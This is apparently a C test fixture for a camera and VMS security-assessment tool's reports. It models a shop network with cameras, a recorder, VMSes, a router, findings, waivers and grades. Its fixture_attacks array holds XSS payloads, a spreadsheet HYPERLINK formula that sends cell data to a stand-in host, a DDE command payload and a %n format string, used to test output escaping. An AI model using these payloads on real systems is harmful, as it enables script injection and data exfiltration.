/* A shop with cameras, a recorder, three VMSes, a router, and two devices that attack the reader.
 */
#include "fixture_assessment.h"

#include "base/text.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define NOW    INT64_C(1795378500000) /* 2026-11-22T20:15:00Z */
#define DAY    INT64_C(86400000)
#define LARGE  ((size_t)10000)
#define MEMORY ((size_t)64 * 1024 * 1024)
#define SCRIPT "</script><script>alert(1)</script>"

const char *const fixture_attacks[] = {
    SCRIPT,
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "=HYPERLINK(\"http://192.0.2.1/\"&A1,\"open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\xe7\x9b\x91\xe6\x8e\xa7\xe6\x91\x84\xe5\x83\x8f\xe5\xa4\xb4\xe5\x9b\x9b\xe5\x8f\xb7\xe9\x97"
    "\xa8\xe5\x8f\xa3\xe8\xb7\xaf\xe7\x81\xaf\xe6\x97\x81\xe8\xbe\xb9",
    "e\xcc\x81\xcc\x81\xcc\x81\xcc\x81 \xf0\x9f\x91\xa8\xf0\x9f\x8f\xbd "
    "\xf0\x9f\x93\xb7\xf0\x9f\x93\xb7",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "--> <!-- <style>*{display:none}</style> &lt;b&gt; %s%n {} \\u003c `x`",
};
const size_t fixture_attack_count = COUNT(fixture_attacks);

struct row {
    enum kind kind;
    const char *address, *mac, *name, *vendor, *brand, *model, *version, *driver;
    uint8_t confidence;
    uint16_t ports[6];
};

// clang-format off
static const struct row rows[] = {
    {KIND_ROUTER,   "10.20.0.1",   "00:1d:aa:01:02:01", NULL,           "MiniUPnP",    NULL,        "miniupnpd",          "2.3.1",             NULL,        80,  {80, 5000}                      },
    {KIND_CAMERA,   "10.20.0.14",  "44:19:b6:01:02:0e", "Gate",         "Hikvision",   NULL,        "DS-2CD2032-I",       "V5.4.0 build 160401","hikvision", 98,  {80, 554, 8000}                 },
    {KIND_CAMERA,   "10.20.0.15",  "44:19:b6:01:02:0f", "Yard",         "Hikvision",   NULL,        "DS-2CD2032-I",       "V5.4.0 build 160401","hikvision", 98,  {80, 554, 8000}                 },
    {KIND_CAMERA,   "10.20.0.16",  "c0:56:e3:01:02:10", NULL,           "Hikvision",   NULL,        "DS-2CD2143G2-I",     "V5.7.3 build 220112","hikvision", 97,  {80, 8000}                      },
    {KIND_CAMERA,   "10.20.0.21",  "3c:ef:8c:01:02:15", "Cash desk",    "Dahua",       NULL,        "IPC-HFW2431S",       "2.800.0000000.31.R","dahua",     96,  {80, 554, 37777}                },
    {KIND_CAMERA,   "10.20.0.22",  "3c:ef:8c:01:02:16", "Back door",    "Dahua",       "Lorex",     "LNB4321B",           "2.622.0000000.19.R","dahua",     91,  {80, 554, 37777}                },
    {KIND_CAMERA,   "10.20.0.30",  "ac:cc:8e:01:02:1e", "Entrance",     "Axis",        NULL,        "P3245-LV",           "11.11.73",          "axis",      99,  {80, 443, 554}                  },
    {KIND_CAMERA,   "10.20.0.31",  "ec:71:db:01:02:1f", "Stock",        "Reolink",     NULL,        "RLC-810A",           "v3.1.0.956",        "reolink",   94,  {80, 443, 554, 8000, 9000}      },
    {KIND_CAMERA,   "10.20.0.32",  NULL,                NULL,           NULL,          NULL,        NULL,                 NULL,                NULL,        40,  {554}                           },
    {KIND_CAMERA,   "fe80::4619:b6ff:fe01:233", "44:19:b6:01:02:33", NULL, "Hikvision", NULL,       "DS-2CD1021-I",       "V5.5.82",           "hikvision", 70,  {80}                            },
    {KIND_RECORDER, "10.20.0.40",  "44:19:b6:01:02:28", "Recorder",     "Hikvision",   NULL,        "DS-7608NI-K2",       "V4.30.085",         "hikvision", 97,  {80, 443, 554, 8000}            },
    {KIND_VMS,      "10.20.0.50",  "52:54:00:01:02:32", NULL,           "Frigate",     NULL,        "Frigate",            "0.14.1",            "frigate",   99,  {5000, 8554, 8971}              },
    {KIND_VMS,      "10.30.0.5",   "52:54:00:01:02:33", NULL,           "ZoneMinder",  NULL,        "ZoneMinder",         "1.36.35",           "zoneminder",99,  {80}                            },
    {KIND_PRINTER,  "10.20.0.60",  "00:1b:a9:01:02:3c", NULL,           "Brother",     NULL,        "HL-L2350DW",         NULL,                NULL,        88,  {80, 631, 9100}                 },
    {KIND_COMPUTER, "10.20.0.61",  "d4:5d:64:01:02:3d", "till-2",       NULL,          NULL,        NULL,                 NULL,                NULL,        60,  {135, 445}                      },
    {KIND_UNKNOWN,  "10.20.0.200", "02:00:00:01:02:c8", NULL,           NULL,          NULL,        NULL,                 NULL,                NULL,        10,  {80}                            },
    {KIND_CAMERA,   "192.168.1.64","44:19:b6:01:02:40", NULL,           "Hikvision",   NULL,        "DS-2CD2T47G2-L",     "V5.7.1",            "hikvision", 90,  {0}                             },
};
// clang-format on

static void *
need(void *memory)
{
    if (memory == NULL) {
        abort();
    }
    return memory;
}

static void
set_text(struct subject *subject, enum fact_id id, const char *text, const char *asked)
{
    if (text != NULL) {
        const struct source source = {WITNESS_WIRE, subject->confidence,
            evidence_new(&subject->arena, asked, text, NOW - 60000)};
        facts_set_text(&subject->facts, id, text, &source);
    }
}

static void
set_bool(struct subject *subject, enum fact_id id, bool yes, enum witness witness)
{
    const struct source source = {witness, witness == WITNESS_CONFIG ? 95 : 90, NULL};
    facts_set_bool(&subject->facts, id, yes, &source);
}

static struct subject *
make_subject(const struct row *row, unsigned number)
{
    struct subject *subject = need(subject_new(number));
    struct ip ip = {0};
    subject->kind = row->kind;
    subject->driver = row->driver;
    subject->confidence = row->confidence;
    subject->in_scope = true;
    subject->seen_by = row->address[0] == 'f' ? "neighbours, SADP" : "sweep, WS-Discovery";
    if (ip_parse(row->address, &ip) == OK) {
        subject_add_address(subject, &ip);
    }
    if (row->mac != NULL && mac_parse(row->mac, &subject->mac) != OK) {
        abort();
    }
    subject->name = row->name;
    set_text(
        subject, FACT_DEVICE_VENDOR, row->vendor, "GET /onvif/device_service GetDeviceInformation");
    set_text(subject, FACT_DEVICE_BRAND, row->brand, "GET /cgi-bin/magicBox.cgi?action=getVendor");
    set_text(subject, row->kind == KIND_VMS ? FACT_VMS_PRODUCT : FACT_DEVICE_MODEL, row->model,
        "GET /ISAPI/System/deviceInfo");
    set_text(subject, row->kind == KIND_VMS ? FACT_VMS_VERSION : FACT_DEVICE_FIRMWARE, row->version,
        "GET /ISAPI/System/deviceInfo");
    for (size_t i = 0; i < COUNT(row->ports) && row->ports[i] != 0; i++) {
        struct port *port = need(subject_port(subject, row->ports[i]));
        port->protocol = row->ports[i] == 554 ? "rtsp" : row->ports[i] == 80 ? "http" : NULL;
        port->tls = row->ports[i] == 443;
    }
    return subject;
}

/* What only some devices have. */
static void
add_special(struct assessment *assessment)
{
    struct subject **devices = assessment->devices;
    set_text(devices[1], FACT_EXPOSURE_MAPPED, "8000/tcp of 10.20.0.1", "AddPortMapping list");
    set_text(devices[11], FACT_EXPOSURE_MAPPED, "5000/tcp of 10.20.0.1", "AddPortMapping list");
    set_text(devices[1], FACT_FIRMWARE_ADVISORY,
        "CVE-2021-36260 (critical, exploited: anyone runs commands on it; fixed: build 210628 or "
        "later), CVE-2017-7921 (critical, exploited: anyone reads users; fixed: V5.4.5)",
        "catalogue of advisories, 2026-08-22");
    set_text(devices[1], FACT_DEVICE_SERIAL, "DS-2CD2032-I20160401AAWR0123", "SADP inquiry");
    set_bool(devices[4], FACT_CLOUD_ENABLED, false, WITNESS_CONFIG);
    set_bool(devices[4], FACT_CLOUD_ENABLED, true, WITNESS_WIRE);
    devices[15]->trouble = "answers every port and never ends a line (tarpit)";
    devices[16]->in_scope = false;
    set_text(devices[14], FACT_DEVICE_NAME, fixture_attacks[0], "mDNS");
    for (size_t i = 0; i < fixture_attack_count; i++) {
        static const enum fact_id targets[] = {FACT_DEVICE_MODEL, FACT_DEVICE_FIRMWARE,
            FACT_HTTP_TITLE, FACT_HTTP_SERVER, FACT_DEVICE_SERIAL, FACT_MDNS_NAME, FACT_RTSP_SERVER,
            FACT_DEVICE_HARDWARE, FACT_HTTP_BODY};
        set_text(devices[15], targets[i % COUNT(targets)], fixture_attacks[i], fixture_attacks[i]);
    }
    devices[15]->name = arena_copy(&devices[15]->arena, fixture_attacks[0]);
    devices[8]->name = arena_copy(&devices[8]->arena, fixture_attacks[5]);
}

struct gap {
    enum verdict verdict;
    const char *control, *rule, *title;
    const char *devices; /* 'a' is the first, '*' the site */
    const char *sentence;
    const char *asked, *answer;
    unsigned fix;
    bool contradicted;
};

// clang-format off
static const struct gap gaps[] = {
    {FAIL, "default-credentials", "factory-password",
     "2 of 12 devices open with a factory password", "bc",
     "Account admin still has its factory password.",
     "GET /ISAPI/System/deviceInfo, HTTP digest as admin (factory password not shown)",
     "HTTP/1.1 200 OK; <DeviceInfo><deviceName>Gate</deviceName><model>DS-2CD2032-I</model>", 1, false},
    {FAIL, "default-credentials", "rtsp-open", "1 of 12 devices shows video to anyone", "i",
     "rtsp://10.20.0.32/live plays without a login.", "DESCRIBE rtsp://10.20.0.32:554/live RTSP/1.0",
     "RTSP/1.0 200 OK; m=video 0 RTP/AVP 96", 0, false},
    {FAIL, "default-credentials", "vms-open", "1 of 2 VMSes can be used without a login", "l",
     "http://10.20.0.50:5000/ can be used without a login.", "GET /api/config HTTP/1.1",
     "HTTP/1.1 200 OK; {\"auth\":{\"enabled\":true},\"cameras\":{\"gate\":{", 0, false},
    {FAIL, "vms-exposure", "port-mapped", "A router forwards ports to 2 devices", "bl",
     "10.20.0.1 forwards 8000/tcp from the internet to it.", "GetGenericPortMappingEntry, index 0",
     "NewExternalPort 8000, NewInternalClient 10.20.0.14, NewEnabled 1", 2, false},
    {FAIL, "camera-segmentation", "mixed-subnet", "10 cameras share 10.20.0.0/24 with 3 other machines",
     "bcdefghi", "It shares 10.20.0.0/24 with a printer, a computer and an unnamed machine.",
     "ARP who-has 10.20.0.60", "10.20.0.60 is-at 00:1b:a9:01:02:3c (Brother)", 0, false},
    {FAIL, "vendor-cloud", "cloud-on", "Vendor cloud or P2P is on in 2 of 10 devices", "ef",
     "P2P is switched on in its configuration.",
     "GET /cgi-bin/configManager.cgi?action=getConfig&name=T2UServer", "table.T2UServer.Enable=true",
     3, true},
    {FAIL, "camera-firmware", "exploited", "2 of 11 devices have a flaw that is being exploited", "bc",
     "CVE-2021-36260 (command injection) is known to be exploited.", "GET /ISAPI/System/deviceInfo",
     "<firmwareVersion>V5.4.0</firmwareVersion><firmwareReleasedDate>build 160401</firmwareReleasedDate>", 0, false},
    {FAIL, "upnp", "router-igd", "Router 10.20.0.1 opens ports for anyone who asks", "a",
     "It answers as an Internet Gateway Device (IGD 1).", "M-SEARCH ssdp:all", "SERVER: Debian UPnP/1.1 MiniUPnPd/2.3.1", 0, false},
    {FAIL, "upnp", "device-upnp-on", "UPnP is on in 1 device", "h",
     "It asks routers to open ports.", "POST /api.cgi?cmd=GetUpnp", "{\"Upnp\":{\"enable\":1}}", 0, false},
    {UNKNOWN, "remote-access", "remote-unknown", "How the site is used from outside is not known", "*",
     "Nothing says how the site is used from outside. `remote` in the site file would make it known.", NULL, NULL, 0, false},
    {UNKNOWN, "access-log", "log-unknown", "Whether access is recorded is not known for 2 VMSes", "lm",
     "Whether it records who watched what could not be read.", NULL, NULL, 0, false},
    {UNKNOWN, "vendor-cloud", "cloud-unknown", "The cloud setting of 4 devices could not be read", "dgjk",
     "Its cloud setting can only be read with a log-in. A password in the site file would make it known.",
     "GET /ISAPI/System/Network/EZVIZ", "HTTP/1.1 401 Unauthorized; WWW-Authenticate: Digest realm=\"IP Camera(C1234)\"", 0, false},
    {NOTE, "default-credentials", "telnet-open", "Telnet is open on 1 device", "i",
     "Telnet is open.", "connect 10.20.0.32:23", "login:", 0, false},
    {NOTE, "camera-firmware", "covered", "8 devices are made by a company on the FCC Covered List", "bcdefjkq",
     "Made by a company on the FCC Covered List.", NULL, NULL, 0, false},
    {NOTE, "camera-segmentation", "plain-rtsp", "An unnamed machine says strange things", "p", NULL,
     NULL, NULL, 0, false},
};
// clang-format on

static const struct finding_place *
make_places(struct assessment *assessment, const struct gap *gap, size_t *ret_count)
{
    size_t count = strlen(gap->devices);
    struct finding_place *places = need(arena_alloc(&assessment->arena, count * sizeof(*places)));
    for (size_t i = 0; i < count; i++) {
        struct subject *subject =
            gap->devices[i] == '*' ? assessment->whole : assessment->devices[gap->devices[i] - 'a'];
        places[i].subject = subject;
        places[i].sentence = gap->sentence == NULL ? fixture_attacks[1] : gap->sentence;
        places[i].evidence = gap->asked == NULL ? NULL
                                                : evidence_new(&subject->arena, gap->asked,
                                                      gap->answer, NOW - 30000 + (int64_t)i * 1234);
        places[i].witness = gap->contradicted ? WITNESS_CONFIG : WITNESS_WIRE;
        places[i].contradicted = gap->contradicted && i == 0;
    }
    if (gap->sentence == NULL) {
        places[0].evidence = evidence_new(
            &assessment->devices[15]->arena, fixture_attacks[8], fixture_attacks[0], NOW);
    }
    *ret_count = count;
    return places;
}

// clang-format off
static const struct waiver waivers[] = {
    {"upnp/device-upnp-on", "Stock", "M. Rossi", "The installer needs it until the router is replaced", NOW + 30 * DAY, false},
    {"camera-firmware/exploited", NULL, "M. Rossi", "Waiting for new cameras", NOW - 3 * DAY, true},
    {"vendor-cloud/ddns-on", SCRIPT, SCRIPT, SCRIPT, NOW + DAY, false},
};
// clang-format on

static void
make_findings(struct assessment *assessment)
{
    struct finding *findings =
        need(arena_alloc(&assessment->arena, COUNT(gaps) * sizeof(*findings)));
    for (size_t i = 0; i < COUNT(gaps); i++) {
        const struct gap *gap = &gaps[i];
        struct finding *finding = &findings[i];
        finding->control = need((void *)(uintptr_t)control_by_id(gap->control));
        finding->id = arena_format(&assessment->arena, "%s/%s", gap->control, gap->rule);
        finding->rule = gap->rule;
        finding->verdict = gap->verdict;
        finding->title = gap->title;
        finding->advice = control_advice(finding->control, gap->rule);
        finding->fix_number = gap->fix;
        finding->contradicted = gap->contradicted;
        finding->places = make_places(assessment, gap, &finding->place_count);
        for (size_t j = 0; j < COUNT(waivers); j++) {
            if (text_equal(waivers[j].finding, finding->id)) {
                finding->waiver = &waivers[j];
            }
        }
        if (finding->waiver != NULL && !finding->waiver->expired) {
            ((struct finding_place *)(uintptr_t)finding->places)[0].waiver = finding->waiver;
        }
        if (gap->verdict == FAIL && finding->advice == NULL) {
            abort(); /* a report owes advice to every FAIL */
        }
    }
    findings[0].close =
        "Open http://10.20.0.14/ and log in as admin.\n"
        "Go to `Configuration > System > User Management`, choose admin, Modify.\n"
        "Set a password of its own, at least 12 characters; store it in your password manager.";
    findings[0].effect =
        "The recorder loses the stream until its entry for this camera is changed.";
    assessment->findings = findings;
    assessment->finding_count = COUNT(gaps);
    assessment->waivers = waivers;
    assessment->waiver_count = COUNT(waivers);
}

// clang-format off
static const struct {
    const char *control;
    enum verdict verdict;
    const char *sentence;
    size_t passed, failed, unknown, waived;
} results[] = {
    {"default-credentials", FAIL, "2 of 12 devices open with a factory password; 1 shows video to anyone; 1 VMS asks for no login", 30, 4, 3, 0},
    {"vms-exposure", FAIL, "The router forwards 2 ports; not looked at from outside", 10, 2, 0, 0},
    {"camera-segmentation", FAIL, "10 cameras share 10.20.0.0/24 with 3 other machines", 0, 8, 0, 0},
    {"vendor-cloud", FAIL, "2 of 10 devices have P2P on; the setting of 4 could not be read", 4, 2, 4, 0},
    {"camera-firmware", FAIL, "2 of 11 devices have a flaw that is being exploited (CVE-2021-36260)", 7, 2, 2, 0},
    {"vms-updates", PASS, "ZoneMinder 1.36.35 and Frigate 0.14.1 are the newest in the catalogue", 2, 0, 0, 0},
    {"remote-access", UNKNOWN, "Nothing says how the site is used from outside", 0, 0, 1, 0},
    {"upnp", FAIL, "Router 10.20.0.1 opens ports for anyone who asks; 1 device is waived", 6, 1, 0, 1},
    {"access-log", UNKNOWN, "Whether access is recorded is not known for 2 VMSes", 0, 0, 2, 0},
};
// clang-format on

static void
make_controls(struct assessment *assessment, bool judged)
{
    struct control_result *controls_made =
        need(arena_alloc(&assessment->arena, control_count * sizeof(*controls_made)));
    for (size_t i = 0; i < control_count; i++) {
        struct control_result *result = &controls_made[i];
        result->control = &controls[i];
        result->verdict = NOT_APPLICABLE;
        result->sentence = "There is no device that this control is about";
        for (size_t j = 0; judged && j < COUNT(results); j++) {
            if (text_equal(results[j].control, controls[i].id)) {
                result->verdict = results[j].verdict;
                result->sentence = results[j].sentence;
                result->passed = results[j].passed;
                result->failed = results[j].failed;
                result->unknown = results[j].unknown;
                result->waived = results[j].waived;
                result->applicable = result->passed + result->failed + result->unknown;
            }
        }
    }
    assessment->controls = controls_made;
}

static void
make_actions(struct assessment *assessment)
{
    static const struct {
        size_t finding;
        const char *words, *grade;
        unsigned score;
    } rows_made[] = {
        {0, "Set new passwords on Gate and Yard (Hikvision DS-2CD2032-I)",               "D", 38},
        {3, "Take down the port forwards 8000/tcp and 5000/tcp on the router 10.20.0.1", "C", 64},
        {5, "Turn off vendor cloud and P2P on Cash desk and Back door",                  "B", 81},
    };
    struct action *actions =
        need(arena_alloc(&assessment->arena, COUNT(rows_made) * sizeof(*actions)));
    for (size_t i = 0; i < COUNT(rows_made); i++) {
        actions[i] = (struct action){&assessment->findings[rows_made[i].finding],
            rows_made[i].words, "closes 2 gaps; 1 more cause keeps the grade at D",
            rows_made[i].grade, rows_made[i].score};
    }
    assessment->actions = actions;
    assessment->action_count = COUNT(rows_made);
}

static void
make_devices(struct assessment *assessment, size_t count)
{
    assessment->devices = need(calloc(count + 1, sizeof(*assessment->devices)));
    for (size_t i = 0; i < count; i++) {
        struct row row = rows[i % COUNT(rows)];
        char address[IP_TEXT];
        if (i >= COUNT(rows)) {
            (void)snprintf(
                address, sizeof(address), "10.%zu.%zu.%zu", 40 + i / 65536, i / 256 % 256, i % 256);
            row.address = address;
            row.mac = NULL;
        }
        assessment->devices[i] = make_subject(&row, (unsigned)i + 1);
    }
    assessment->device_count = count;
    assessment->totals.devices = count;
}

/* One finding with a place for each of many devices. */
static void
make_many_places(struct assessment *assessment)
{
    struct finding *finding = (struct finding *)(uintptr_t)&assessment->findings[4];
    struct finding_place *places =
        need(arena_alloc(&assessment->arena, assessment->device_count * sizeof(*places)));
    for (size_t i = 0; i < assessment->device_count; i++) {
        places[i] = finding->places[0];
        places[i].subject = assessment->devices[i];
    }
    finding->places = places;
    finding->place_count = assessment->device_count;
}

static void
set_grade(struct assessment *assessment, const char *grade, unsigned score, const char *why)
{
    assessment->grade = grade;
    assessment->score = score;
    assessment->grade_uncapped = grade;
    assessment->score_uncapped = score;
    assessment->grade_why = why;
}

static struct assessment *
make_base(void)
{
    struct assessment *assessment = need(calloc(1, sizeof(*assessment)));
    arena_init(&assessment->arena, MEMORY);
    (void)text_copy(assessment->id, sizeof(assessment->id), "20261122T201500Z-1a2b3c");
    assessment->site = "Corner shop";
    assessment->scope = "10.20.0.0/24, 10.30.0.0/28";
    assessment->authorised = "authorised in shop.yaml, 2026-11-22";
    assessment->totals = (struct run_totals){.hosts_planned = 270,
        .hosts_asked = 270,
        .packets = 8034,
        .requests = 412,
        .connections = 655,
        .logins = 9,
        .started = NOW - 11400,
        .ended = NOW};
    assessment->pace = 1000;
    assessment->catalog_date = "2026-11-15";
    assessment->whole = need(subject_new(0));
    return assessment;
}

struct assessment *
fixture_assessment(enum fixture_kind kind)
{
    struct assessment *assessment = make_base();
    bool judged = kind != FIXTURE_EMPTY && kind != FIXTURE_CLEAN;
    make_devices(assessment, kind == FIXTURE_EMPTY   ? 0
                             : kind == FIXTURE_LARGE ? LARGE
                                                     : COUNT(rows));
    make_controls(assessment, judged);
    if (kind == FIXTURE_EMPTY) {
        set_grade(assessment, "-", 0, "No control could be judged: no device answered.");
        return assessment;
    }
    if (kind == FIXTURE_CLEAN) {
        set_grade(assessment, "A", 100, "All that could be judged is in order.");
        return assessment;
    }
    add_special(assessment);
    make_findings(assessment);
    make_actions(assessment);
    if (kind == FIXTURE_LARGE) {
        make_many_places(assessment);
    }
    set_grade(assessment, "D", 31,
        "Two critical controls are open. By the rules, a factory password or a port open to the "
        "internet caps the grade at D. Seven of nine controls could be judged.");
    assessment->cap_why = "a factory password opens 2 cameras";
    assessment->grade_uncapped = "C";
    assessment->score_uncapped = 58;
    if (kind == FIXTURE_PARTIAL) {
        assessment->partial = true;
        assessment->partial_why = "interrupted from the keyboard";
        assessment->totals.hosts_asked = 104;
    }
    return assessment;
}

void
fixture_free(struct assessment *assessment)
{
    for (size_t i = 0; i < assessment->device_count; i++) {
        subject_free(assessment->devices[i]);
    }
    free(assessment->devices);
    subject_free(assessment->whole);
    arena_release(&assessment->arena);
    free(assessment);
}
